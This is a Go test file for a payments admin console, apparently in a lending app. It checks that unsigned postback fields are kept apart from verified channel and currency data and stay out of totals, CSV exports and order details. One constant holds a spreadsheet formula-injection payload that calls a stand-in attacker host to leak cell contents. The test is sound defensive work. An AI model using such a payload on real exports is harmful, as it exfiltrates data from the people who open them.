package console_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"kwarta/internal/console"
	"kwarta/internal/loan"
	"kwarta/internal/payment"
	"kwarta/internal/repay"
	"kwarta/internal/server/servertest"
	"kwarta/internal/store"
	"kwarta/internal/store/storetest"
)

// evilProcID is the channel field of the postback that reached the
// payments export: procid is outside the provider's digest.
const evilProcID = `=HYPERLINK("http://evil.example/?x="&A1,"GCash")`

// TestConsole_UnsignedPostbackFields: an unknown-transaction postback's
// ccy and procid (outside the digest) are shown as verified only when they
// are the market's currency and a listed channel; anything else is only
// text marked as sent. Credited by finance, such a payment has no channel:
// the totals, their CSV and the order's payments never show the text sent
// as a channel. A known procid is credited under its channel as before.
func TestConsole_UnsignedPostbackFields(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		env := servertest.New(t, db)
		fin := enrol(t, env, "fe", console.Finance)
		fio := enrol(t, env, "fio", console.Finance)
		for _, p := range []payment.Postback{
			{TxnID: "EVIL-1", RefNo: "SBX-EVIL", Currency: "USD", Channel: evilProcID},
			{TxnID: "GOOD-1", RefNo: "SBX-GOOD", Currency: "PHP", Channel: "GCSH"},
		} {
			p.Status, p.Message, p.Amount = payment.StatusSuccess, "paid", 50000
			if r := postback(t, env, p); r.Status != http.StatusNotFound {
				t.Fatalf("the postback for no code: %d %s", r.Status, r.Body)
			}
		}

		r := fin.call(t, env, "GET", "/admin/api/payments/review", nil)
		var list []repay.Review
		r.Rows(t, &list)
		if len(list) != 2 {
			t.Fatalf("review: %+v", list)
		}
		evil, good := list[0], list[1]
		if evil.TxnID != "EVIL-1" || evil.Channel != "" || evil.ChannelAsSent != evilProcID || evil.Currency != "" || evil.CurrencyAsSent != "USD" {
			t.Errorf("the unknown procid and ccy: %+v", evil)
		}
		if good.TxnID != "GOOD-1" || good.Channel != "GCSH" || good.ChannelAsSent != "" || good.Currency != "PHP" || good.CurrencyAsSent != "" {
			t.Errorf("the known procid and ccy: %+v", good)
		}
		// The JSON names the text sent only in the fields marked as sent.
		if n := strings.Count(string(r.Data), "HYPERLINK"); n != 1 || !strings.Contains(string(r.Data), `"channelAsSent":"=HYPERLINK`) {
			t.Errorf("review JSON: %s", r.Data)
		}

		orderNo, err := loan.OrderNo(t.Context(), db, 81)
		if err != nil {
			t.Fatal(err)
		}
		for _, txn := range []string{"EVIL-1", "GOOD-1"} {
			p := proposeResolve(t, env, fin, url.Values{"txnId": {txn}, "action": {"credit"}, "orderNo": {orderNo}, "note": {"the borrower's money"}})
			approved(t, env, fio, p.ID)
		}
		var channel, currency string
		if err := db.QueryRow(t.Context(), `SELECT channel, currency FROM payments WHERE ref_no = 'SBX-EVIL'`).Scan(&channel, &currency); err != nil || channel != "" || currency != "PHP" {
			t.Errorf("the credited payment: channel %q, currency %q, %v", channel, currency, err)
		}

		today := env.Clock.Now().In(env.App.Config.Market.Location()).Format(time.DateOnly)
		day := url.Values{"from": {today}, "to": {today}}
		r = fin.call(t, env, "GET", "/admin/api/payments/totals", day)
		var totals []repay.DayTotal
		r.Decode(t, &totals)
		if len(totals) != 2 || totals[0].Channel != "" || totals[0].Payments != 1 || totals[0].Currency != "PHP" ||
			totals[1].Channel != "GCSH" || totals[1].ChannelName != "GCash" || totals[1].Payments != 1 || strings.Contains(string(r.Data), "HYPERLINK") {
			t.Errorf("totals: %s", r.Data)
		}
		r = fin.call(t, env, "GET", "/admin/api/payments/totals.csv", day)
		if r.Status != http.StatusOK || strings.Contains(r.Body, "HYPERLINK") || !strings.Contains(r.Body, today+",,,PHP,1,50000,500.00\n") ||
			!strings.Contains(r.Body, today+",GCSH,GCash,PHP,1,50000,500.00\n") {
			t.Errorf("CSV: %d\n%s", r.Status, r.Body)
		}
		r = fin.call(t, env, "GET", "/admin/api/orders/detail", url.Values{"orderNo": {orderNo}})
		if r.Status != http.StatusOK || strings.Contains(string(r.Data), "HYPERLINK") {
			t.Errorf("the order's payments: %d %s", r.Status, r.Data)
		}
	})
}
